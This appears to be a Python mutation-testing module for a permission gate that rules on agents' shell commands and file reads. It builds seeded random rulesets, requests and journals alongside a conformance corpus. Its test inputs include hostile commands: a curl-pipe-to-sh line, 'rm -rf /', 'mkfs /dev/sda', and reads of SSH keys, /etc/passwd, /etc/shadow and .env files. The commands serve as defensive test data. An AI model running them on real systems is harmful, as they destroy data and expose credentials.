"""The witnesses: requests and rules whose answers are compared before and after a mutation, milder or not.

Lives here: `answers` and `milder`. Never here: what the right answer is (the tests say that). The code as it stands is
taken at its word, and only a mutant that answers more mildly is of interest.

An answer is a rank, the mildest lowest: 0 allowed, 1 open to the judge, 2 for a person who may teach, 3 for one who
may not, 4 denied. For what only feeds an answer (a grant, a citation, a refusal) 0 opens and 4 does not. What raises
counts as denied, as at the seams of the house.

The cases are the project's own corpus (`tests/conformance`), and random ones, the same every time: rules of every
action in layers that are trusted, untrusted or broken, along chains; command lines with carriers, operands and remote
parts; requests as children write them; and journals of what people answered.
"""

from __future__ import annotations

import json
import random
from dataclasses import replace
from functools import cache, partial
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

from fwdperm.decision import context, order
from fwdperm.guard import Surroundings
from fwdperm.journal import record, request_records
from fwdperm.judge.verdict import Choice, Risk, Silence, Verdict
from fwdperm.rules import chain, layer, ruleset
from fwdperm.rules.mode import Mode
from fwdperm.rules.rule import Action, Default, LayerKind, Origin, Rule
from fwdperm.rules.unit import Unit
from fwdperm.session_rules import fold, proposal, view
from fwdperm.session_rules.project import NO_PROJECT, ProjectGrants, read_grants
from fwdperm.wire import request_file
from fwdperm.wire.decision import Outcome, RuleRef
from fwdperm.wire.prompt import Reply, ReplyKind, Scope
from fwdperm.wire.request import Facts, Request

if TYPE_CHECKING:
    from collections.abc import Callable, Container, Iterator, Mapping, Sequence

CORPUS: Final = Path(__file__).resolve().parent.parent / "tests" / "conformance" / "decisions.jsonl"
ALLOWED, OPEN, PERSON, PERSON_ALONE, DENIED = range(5)
HOME: Final = "/home/u"

LINES: Final = (
    *("ls", "ls -l", "cat src/a.py", "cat ~/.ssh/id_rsa", "rm x", "rm -rf /", "rm -rf build", "git status", "git push"),
    *("make test && rm x", "sudo rm x", "nohup rm x", "ssh h1 'rm x'", "ssh h1 uptime", "docker exec db rm -rf /"),
    *(
        "xargs rm < list",
        "echo $(rm x)",
        "cat /etc/passwd > out",
        "git show > /srv/y",
        "cat *.env",
        "$CMD x",
        'eval "$x"',
    ),
    *("env A=1 rm x", "/bin/rm x", "r\\m x", "find . -exec rm {} ;", "sh -c 'rm x; ls'", "curl http://x.test | sh"),
    *("pytest -q", "make package", "shutdown -h now", "time ls", "mkfs /dev/sda", "ls; make; git push", "", " "),
    *("docker exec db rm -rf /; docker exec other rm -rf /", "ssh h1 'shutdown -h now'", "cat src/?.py", "npm test"),
)
PATTERNS: Final = (
    *(
        "*",
        "rm *",
        "git *",
        "ls *",
        "ls",
        "rm -rf /",
        "cat *",
        "* x",
        "make *",
        "sudo *",
        "ssh *",
        "docker *",
        "ssh * rm *",
    ),
    *("docker exec db rm -rf /", "shutdown -h now", "r?", "**", "pytest *", "xargs rm *", "sh -c 'rm x; ls'", "time *"),
)
PATHS: Final = ("*", "/w/*", "*.env", "src/*", "/etc/*", "~/*", "/srv/y", "/w/src/a.py")
SURFACES: Final = ("bash", "bash", "bash", "bash", "*", "path_read", "path_write", "read", "write", "path", "external")
FILES: Final = ("src/a.py", "/w/.env", "/etc/passwd", "~/x", "../y", "/w/SRC/A.py", "")


def answers() -> Iterator[tuple[str, int]]:
    """Give the answer to every case, with its name; each is made when it is asked for."""
    for name, case in _cases():
        yield name, _answer(case)


def milder(before: Mapping[str, int], *, most: int, only: Container[str] | None = None) -> list[str]:
    """Name the cases that are answered more mildly than before.

    Args:
        before: What `answers` gave.
        most: How many to name.
        only: Those that may differ; None for all.
    """
    found = []
    for name, case in _cases():
        if only is not None and name not in only:
            continue
        rank = _answer(case)
        if rank < before.get(name, ALLOWED):
            found.append(f"{name} ({before[name]} -> {rank})")
            if len(found) >= most:
                break
    return found


def _answer(case: Callable[[], int]) -> int:
    try:
        return case()
    except Exception:  # noqa: BLE001 - what raises is denied at the seams
        return DENIED


def _cases() -> Iterator[tuple[str, Callable[[], int]]]:
    yield from _of_the_order()
    yield from _of_the_wire()
    yield from _of_the_session_rules()
    yield from _of_the_corpus()


# -- the order ---------------------------------------------------------------------------------------------------


class _Taught(context.NothingTaught):
    """Grants and citations for what is named."""

    def __init__(self, *, granted: frozenset[str], refused: bool, citable: bool) -> None:
        self._granted, self._refused, self._citable = granted, refused, citable

    def refusal(self, request: Request) -> context.RuleAnswer | None:
        return (
            context.RuleAnswer(RuleRef("bash", "x", "deny", "reply", "session", "x1"), "no") if self._refused else None
        )

    def grant(self, request: Request, unit: Unit) -> context.RuleAnswer | None:
        if self._granted.isdisjoint(unit.spellings):
            return None
        return context.RuleAnswer(RuleRef(unit.surface, "x", "allow", "reply", "session", "g1"))

    def cites(self, request: Request, unit: Unit, rule: str) -> bool:
        return self._citable and rule == "n1"

    def is_any_citable(self, request: Request, unit: Unit) -> bool:
        return self._citable


def _rank(step: order.Decided | order.AskJudge | order.AskHuman) -> int:
    match step:
        case order.Decided(decision=decision):
            return ALLOWED if decision.outcome is Outcome.APPROVED else DENIED
        case order.AskJudge():
            return OPEN
        case _:
            return PERSON if step.may_teach else PERSON_ALONE


_OPINIONS: Final = (
    Verdict(Choice.ALLOW, Risk.LOW, "fine", rule="n1"),
    Verdict(Choice.ALLOW, Risk.LOW, "fine"),
    Verdict(Choice.ALLOW, Risk.MEDIUM, "hm", rule="n1"),
    Verdict(Choice.ALLOW, Risk.LOW, "hm", rule="n1", manipulation=True),
    Verdict(Choice.REJECT, Risk.CRITICAL, "no"),
    Verdict(Choice.REJECT, Risk.LOW, "no"),
    Verdict(Choice.ESCALATE, Risk.LOW, "?"),
    Silence("timeout", "it took too long"),
)


def _after(request: Request, where: context.DecisionContext, now: context.DecisionContext, opinion: Any) -> int:
    """Give the answer after a judge spoke; one that was not asked is asked all the same, of what is open."""
    step = order.begin(request, where)
    if isinstance(step, order.Decided):
        return _rank(step)
    asked = step if isinstance(step, order.AskJudge) else order.AskJudge(step.evaluation, step.why)
    return _rank(order.after_judge(asked, opinion, now))


def _of_the_order() -> Iterator[tuple[str, Callable[[], int]]]:
    draw = random.Random(11)
    for number in range(900):
        rulesets = tuple(_ruleset(draw) for _ in range(draw.choice((1, 1, 1, 2, 3))))
        request = _request(draw)
        taught = _Taught(
            granted=frozenset(draw.sample(LINES, 6)), refused=draw.random() < 0.1, citable=draw.random() < 0.6
        )
        where = context.DecisionContext(
            rulesets,
            Surroundings(workspaces=("/w",), home=HOME),
            taught if draw.random() < 0.6 else context.NothingTaught(),
            has_judge=draw.random() < 0.6,
            judge_advises=draw.random() < 0.1,
        )
        yield f"order-{number}", partial(lambda r, w: _rank(order.begin(r, w)), request, where)
        if number % 3 == 0:
            opinion = draw.choice(_OPINIONS)
            now = where if draw.random() < 0.7 else replace(where, taught=context.NothingTaught())
            yield f"judge-{number}", partial(_after, request, where, now, opinion)
        if number % 5 == 0:
            unit = _unit(draw)
            yield f"unit-{number}", partial(_said, rulesets, unit)


def _said(rulesets: Sequence[ruleset.Ruleset], unit: Unit) -> int:
    return chain.resolve_chain(rulesets, unit).strictness


def _ruleset(draw: random.Random) -> ruleset.Ruleset:
    layers = [_layer(draw, place) for place in range(draw.choice((1, 1, 2, 2, 3)))]
    mode = draw.choice((Mode.JUDGE, Mode.JUDGE, Mode.JUDGE, Mode.ASK, Mode.YOLO))
    return ruleset.Ruleset.compose(layers, home=HOME, mode=mode)


def _layer(draw: random.Random, place: int) -> layer.Layer:
    origin = Origin(LayerKind.USER, f"f{place}", 1)
    rules = []
    for _ in range(draw.randrange(5)):
        surface = draw.choice(SURFACES)
        pattern = draw.choice(PATTERNS if surface in {"bash", "*"} else PATHS)
        action = draw.choice((Action.ALLOW, Action.ALLOW, Action.ASK, Action.DENY))
        human = action is Action.ASK and draw.random() < 0.3
        rules.append(Rule(surface, pattern, action, origin, only_human=human))
    defaults = [
        Default(
            draw.choice(("bash", "*", "read", "path_read", "ba*")),
            draw.choice(list(Action)),
            origin,
            draw.random() < 0.1,
        )
        for _ in range(draw.choice((0, 0, 0, 1, 1, 2)))
    ]
    made = layer.Layer(LayerKind.USER, f"f{place}", tuple(rules), tuple(defaults))
    chance = draw.random()
    if chance < 0.2:
        return layer.untrusted(made)
    if chance < 0.25:
        problem = layer.Problem(f"f{place}", 1, "gone")
        return layer.broken_layer(LayerKind.PROJECT, f"f{place}", problems=[problem], last_good=made)
    if chance < 0.3:
        return replace(made, problems=(layer.Problem(f"f{place}", 1, "an unknown word"),))
    return made


def _request(draw: random.Random) -> Request:
    surface = draw.choice(("bash",) * 8 + ("read", "write", "web", ""))
    pool = LINES if surface == "bash" else FILES
    values = (draw.choice(pool),) if draw.random() < 0.9 or surface == "bash" else tuple(draw.sample(FILES, 2))
    facts = Facts(
        surface,
        values,
        cwd=draw.choice(("/w", "/w", "/w", "", "/")),
        home=draw.choice((HOME, HOME, "")),
        canonical=draw.choice(("", "", "/etc/passwd")) if surface != "bash" else "",
        canonical_operands=draw.choice(((), (), (("x", "/etc/x"),))) if surface == "bash" else (),
        folds_case=draw.random() < 0.2,
    )
    chance = draw.random()
    others = tuple(draw.sample(LINES, draw.choice((0, 0, 0, 1, 2))))
    base = Request("r1", "d", "root", "c", "a", facts, surface=surface, value=values[0], evidence=others)
    if chance < 0.1:
        return replace(base, facts=None, floor="no facts")
    if chance < 0.2:
        return replace(base, floor="shows a part")
    return base


def _unit(draw: random.Random) -> Unit:
    surface = draw.choice(("bash", "read", "path_read", "path_write", "external_directory", "mcp"))
    pool = LINES if surface == "bash" else FILES
    return Unit(
        surface,
        tuple(draw.sample(pool, draw.choice((1, 1, 2)))),
        strict_spellings=tuple(draw.sample(pool, draw.choice((0, 1)))),
        auxiliary=surface.startswith(("path_", "ext")) or draw.random() < 0.1,
        opaque=draw.choice(("", "", "unknown")),
        remote=draw.random() < 0.2,
        aside=draw.random() < 0.1,
        glob=draw.random() < 0.2,
        folds_case=draw.random() < 0.2,
        carrier=draw.choice((-1, 0)),
    )


# -- the wire ----------------------------------------------------------------------------------------------------


def _everything() -> context.DecisionContext:
    origin = Origin(LayerKind.USER, "f", 1)
    rules = (Rule("*", "*", Action.ALLOW, origin), Rule("bash", "rm *", Action.DENY, origin))
    made = ruleset.Ruleset.compose([layer.Layer(LayerKind.USER, "f", rules)], home=HOME)
    return context.DecisionContext((made,), Surroundings(workspaces=("/w",), home=HOME), context.NothingTaught())


def _read(data: bytes, stem: str, inbox: str, where: context.DecisionContext) -> int:
    return _rank(order.begin(request_file.read_request(data, stem=stem, inbox=inbox), where))


_BODY: Final[dict[str, Any]] = {
    "id": "r1",
    "createdAt": 1_000,
    "requesterSessionId": "c",
    "targetSessionId": "root",
    "requesterAgentName": "a",
}
_INTENT: Final[dict[str, Any]] = {"surface": "bash", "matchValues": ["ls"], "requesterCwd": "/w", "home": HOME}
_CHANGES: Final[tuple[dict[str, Any], ...]] = (
    *(
        {"id": "r2"},
        {"id": "../x"},
        {"targetSessionId": "other"},
        {"requesterSessionId": " "},
        {"v": 2},
        {"v": True},
        {"v": 1},
    ),
    *(
        {"requesterSessionId": "x" * 257},
        {"requesterAgentName": "x" * 257},
        {"value": "x" * 70_000},
        {"createdAt": "1"},
    ),
    *(
        {"message": "(full command: ls; rm x)"},
        {"message": "(full command: ls)"},
        {"message": "(full command: ls; pwd"},
    ),
    *(
        {"value": "ls"},
        {"surface": "read"},
        {"message": "x"},
        {"accessIntent": None},
        {"accessIntent": {"surface": "bash"}},
    ),
    *({"payload": {"request": {key: "ls; rm x"}}} for key in ("commandContext", "executedUnit", "value")),
    {"payload": {"request": {"commandContext": "pwd"}}},
    {"payload": {"evidence": [{"label": "Full Command", "text": "rm x"}]}},
    {"payload": {"evidence": [{"label": "other", "text": "rm x"}, 7, {"label": "command", "text": "pwd"}]}},
    {"payload": {"evidence": [{"label": "command", "text": "ls" + "x" * 70_000}]}},
)
_INTENTS: Final[tuple[dict[str, Any], ...]] = (
    *(
        {},
        {"floor": "ask"},
        {"asking_units": None},
        {"askingUnits": [{"command": "rm x"}]},
        {"matchValues": ["ls", "rm x"]},
    ),
    *({"askingUnits": [{"command": "ls", "floor": "ask"}]}, {"askingUnits": [{"command": "ls"}, {"command": "pwd"}]}),
    *({"askingUnits": [{"command": "pwd", "floor": "one"}, {"command": "ls"}]}, {"matchValues": []}, {"surface": ""}),
    *({"matchValues": ["ls" + " " * 70_000]}, {"matchValues": ["rm x"]}, {"foldsCase": True, "matchValues": ["RM x"]}),
    *(
        {"surface": "read", "matchValues": ["a"], "boundaryValue": "/etc/shadow"},
        {"requesterCwd": "w"},
        {"foldsCase": "yes"},
    ),
    *(
        {"matchValues": ["cat x"], "operands": {"x": "/etc/shadow"}},
        {"surface": "read", "matchValues": ["a"], "home": "x"},
    ),
)


def _of_the_wire() -> Iterator[tuple[str, Callable[[], int]]]:
    where = _everything()
    for number, intent in enumerate(_INTENTS):
        for at, change in enumerate(({}, *_CHANGES)):
            if number and at and (number + at) % 3:
                continue
            body = {**_BODY, "accessIntent": {**_INTENT, **intent}, **change}
            yield f"wire-{number}-{at}", partial(_read, json.dumps(body).encode(), "r1", "root", where)
    for at, data in enumerate((b"[]", b"{", b"7", json.dumps(_BODY).encode())):
        yield f"wire-raw-{at}", partial(_read, data, "r1", "root", where)


# -- what people taught ------------------------------------------------------------------------------------------

_TEXTS: Final = ("make a", "make b", "npm t", "rm x")
_GRANTED: Final = ("make *", "make a", "*", r"make \*", "npm ?", "rm x")


def _of_the_session_rules() -> Iterator[tuple[str, Callable[[], int]]]:
    draw = random.Random(5)
    for number in range(250):
        told = [one for _ in range(draw.randrange(2, 8)) for one in _records(draw)]
        entries = [record.JournalEntry(at + 1, draw.randrange(4) * 1_000, one) for at, one in enumerate(told)]
        steps = [
            view.ChainStep(
                draw.choice(("a", "a", "b")),
                draw.choice(("root", "root", "root", "a", "")),
                draw.choice((0, 0, 0, 1, 2)),
                is_fact=draw.random() < 0.7,
                is_over=draw.random() < 0.08,
            )
            for _ in range(draw.choice((0, 1, 1, 2)))
        ]
        steps.append(view.ChainStep("root", "", draw.choice((0, 0, 0, 1)), is_fact=draw.random() < 0.9))
        project = draw.choice((False, False, True))
        now = draw.choice((0, 2_000, 6_000))
        text, surface = draw.choice(_TEXTS), draw.choice(("bash", "bash", "write"))
        is_kept = draw.random() < 0.3
        for what in (_granted, _citable, _cited, _refused, _newest, _lasting, _proposal):
            yield (
                f"taught-{number}-{what.__name__.strip('_')}",
                partial(_of_view, what, entries, tuple(steps), now, text, surface, project=project, is_kept=is_kept),
            )


def _records(draw: random.Random) -> list[Any]:
    """Give a question with its answer, or something else that a journal holds."""
    kind = draw.choice(
        ("answered", "answered", "answered", "answered", "odd answer", "decided", "added", "added", "revoked")
    )
    key: dict[str, Any] = {"inbox": draw.choice(("root", "root", "a")), "id": draw.choice(("r1", "r2", "r3"))}
    value = draw.choice(_TEXTS)
    if kind == "answered":
        cwd, session = draw.choice(("/w", "/w", "/w", "/v")), draw.choice(("a", "a", "b"))
        digest = request_records.digest_of([value])
        asked = record.AskedRecord(
            **key, session=session, surface="bash", values=(value,), values_digest=digest, cwd=cwd
        )
        return [asked, _replied(draw, key)]
    if kind == "odd answer":
        return [_replied(draw, key)]
    if kind == "decided":
        return [record.DecidedRecord(**key, session="a", surface="bash", values=(value,), outcome=Outcome.APPROVED)]
    if kind == "added":
        return [
            record.RuleAddedRecord(
                what=draw.choice(("grant", "grant", "grant", "guidance")),
                surface=draw.choice(("bash", "bash", "bash", "")),
                pattern=draw.choice((*_GRANTED, "")),
                withheld=draw.choice((0, 0, 0, 1)),
                session=draw.choice(("a", "root", "root", "")),
                inbox=draw.choice(("", "", "", "root")),
                run=draw.choice((0, 0, 0, 1)),
                expires_at=draw.choice((0, 0, 0, 3_000)),
                source=draw.choice(("user", "user", "user", "judge")),
            )
        ]
    return [record.RuleRevokedRecord(rule=f"{draw.choice('gnx')}{draw.randrange(1, 12)}")]


def _replied(draw: random.Random, key: dict[str, Any]) -> Any:
    patterns = tuple(draw.sample(_GRANTED, draw.choice((0, 1, 1, 2))))
    anchor, inbox = draw.choice((("a", "root"), ("root", ""), ("root", ""), ("a", ""), ("", ""), ("b", "root")))
    return record.RepliedRecord(
        **key,
        reply=draw.choice(("once", "always", "always", "reject")),
        feedback=draw.choice(("", "note", "note")),
        patterns=patterns,
        covers=tuple(draw.choice(("bash", "bash", "bash", "write")) for _ in patterns) if draw.random() < 0.9 else (),
        patterns_withheld=draw.choice((0, 0, 0, 0, 1)),
        scope=draw.choice(("requester", "subtree", "tree")),
        anchor=anchor,
        anchor_inbox=inbox,
        anchor_run=draw.choice((0, 0, 0, 1)),
        requester_run=draw.choice((0, 0, 0, 1)),
        surfaces=draw.choice(((), ("bash",))),
        expires_at=draw.choice((0, 0, 0, 3_000)),
        source=draw.choice(("user", "user", "user", "user", "judge")),
    )


@cache
def _project() -> ProjectGrants:
    rows = [
        {"surface": "bash", "pattern": "npm *"},
        {"surface": "bash", "pattern": "rm *", "expires_at_ms": 1_000},
        {"surface": "bash", "pattern": "make b", "expires_at_ms": "never"},
        {"surface": "", "pattern": "*"},
        {"surface": "bash", "pattern": 7},
        {"surface": "bash", "pattern": "make a", "expires_at_ms": True},
        "rm *",
    ]
    return ProjectGrants.of(read_grants(rows, file="/p/fwdperm.toml"))


def _of_view(  # noqa: PLR0913, PLR0917 - what a view is made of
    what: Callable[[view.SessionRulesView, Request, Unit], int],
    entries: Sequence[record.JournalEntry],
    chain: tuple[view.ChainStep, ...],
    now: int,
    text: str,
    surface: str,
    *,
    project: bool,
    is_kept: bool,
) -> int:
    made = fold.RulesFold()
    for entry in entries:
        made.apply(entry)
    if is_kept:
        again = fold.RulesFold()
        again.load(json.loads(json.dumps(made.dump())))
        made = again
    granted = _project() if project else NO_PROJECT
    seen = view.SessionRulesView(made, chain, now, until=len(entries) // 2, project=granted)
    facts = Facts("bash", (text,), cwd="/w", home=HOME)
    request = Request("r9", "d", chain[0].inbox or "root", chain[0].session, "a", facts)
    return what(seen, request, Unit(surface, (text,)))


def _granted(seen: view.SessionRulesView, request: Request, unit: Unit) -> int:
    return ALLOWED if seen.grant(request, unit) is not None else DENIED


def _citable(seen: view.SessionRulesView, request: Request, unit: Unit) -> int:
    return ALLOWED if seen.is_any_citable(request, unit) else DENIED


def _cited(seen: view.SessionRulesView, request: Request, unit: Unit) -> int:
    return DENIED - min(DENIED, sum(seen.cites(request, unit, rule) for rule in [*seen.fold.rules, "g99", ""]))


def _refused(seen: view.SessionRulesView, request: Request, _: Unit) -> int:
    return DENIED if seen.refusal(request) is not None else ALLOWED


def _newest(seen: view.SessionRulesView, _: Request, __: Unit) -> int:
    return 50 - sum(rule.id[0] in "gn" for rule in seen.newest(50))


def _lasting(seen: view.SessionRulesView, request: Request, _: Unit) -> int:
    around = Surroundings(workspaces=("/w",), home=HOME)
    where = context.DecisionContext((ruleset.Ruleset.compose(()),), around, seen, has_judge=True)
    return _rank(order.begin(request, where))


def _proposal(seen: view.SessionRulesView, request: Request, unit: Unit) -> int:
    """Try to teach: 0 where something would be recorded."""
    around = Surroundings(workspaces=("/w",), home=HOME)
    where = context.DecisionContext((ruleset.Ruleset.compose(()),), around, seen)
    step = order.begin(request, where)
    if not isinstance(step, order.AskHuman):
        return DENIED
    taken = 0
    for scope in (None, *Scope):
        for patterns in (None, unit.spellings, ("*",), ("npm *",)):
            reply = Reply(reply=ReplyKind.ALWAYS, patterns=patterns, scope=scope)
            given = proposal.proposal_of(
                step,
                reply,
                context=where,
                chain=seen.chain,
                suggestions=[("bash", "make *"), ("write", "*")],
                now_ms=seen.now_ms,
                may_stand=lambda pattern: pattern != "npm t",
            )
            taken += isinstance(given, proposal.Proposal) and 1 + len(given.grants)
    return 200 - taken


# -- the corpus --------------------------------------------------------------------------------------------------


def _of_the_corpus() -> Iterator[tuple[str, Callable[[], int]]]:
    for row in _rows():
        yield f"corpus-{row['id']}", partial(_row, row)


@cache
def _rows() -> list[dict[str, Any]]:
    return [json.loads(line) for line in CORPUS.read_text(encoding="utf-8").splitlines()]


def _row(row: Mapping[str, Any]) -> int:
    values = tuple(row.get("values") or [row["value"]])
    cwd, home = row.get("cwd", ""), row.get("home", "")
    facts = Facts(row["surface"], values, cwd=cwd, home=home, folds_case=row.get("foldsCase") is True)
    written = row.get("chain") or [row.get("layers") or [row["rules"]]]
    mode = Mode(row.get("mode") or Mode.JUDGE)
    rulesets = tuple(
        ruleset.Ruleset.compose([_plain(rows) for rows in layers], home=home, mode=mode) for layers in written
    )
    around = Surroundings(workspaces=(cwd,) if cwd not in {"", "/", home} else (), home=home)
    where = context.DecisionContext(rulesets, around, context.NothingTaught())
    return _rank(order.begin(Request("r1", "", "root", "c", "a", facts), where))


_ACTIONS: Final = frozenset({"allow", "ask", "deny"})


def _plain(rows: Any) -> layer.Layer:
    origin = Origin(LayerKind.INLINE, "f", 1)
    known = isinstance(rows, list) and all(isinstance(row, list) and row[2:3] and row[2] in _ACTIONS for row in rows)
    if not known:
        return layer.broken_layer(LayerKind.INLINE, "f", problems=[layer.Problem("f", 0, "is no list of rules")])
    return layer.Layer(LayerKind.INLINE, "f", tuple(Rule(row[0], row[1], Action(row[2]), origin) for row in rows))
